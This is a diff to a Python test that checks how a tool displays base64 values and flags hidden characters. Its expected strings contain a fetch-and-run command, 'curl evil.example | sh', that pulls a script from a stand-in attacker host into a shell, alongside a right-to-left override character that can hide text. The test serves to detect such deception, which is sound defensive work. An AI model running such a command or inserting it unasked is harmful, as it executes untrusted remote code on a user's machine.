@@ -216,7 +216,8 @@ def test_base64_is_shown_whole_with_what_it_decodes_to() -> None:
     image = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(90)).decode()
     read = as_read(lines_of_json(canonical_text({"image": image, "script": script})))
     assert f'"image": ⟦base64, {len(image)} characters; decoded 98 bytes, looks like a PNG image⟧ "{image}"' in read
-    assert "of text: curl evil.example | sh # ⟦U+202E RIGHT-TO-LEFT OVERRIDE⟧⟧" in read
+    said = "of text; in it 1 hidden or passing for another: curl evil.example | sh # ⟦U+202E RIGHT-TO-LEFT OVERRIDE⟧⟧"
+    assert said in read
     assert f'"{script}"' in read
 
 
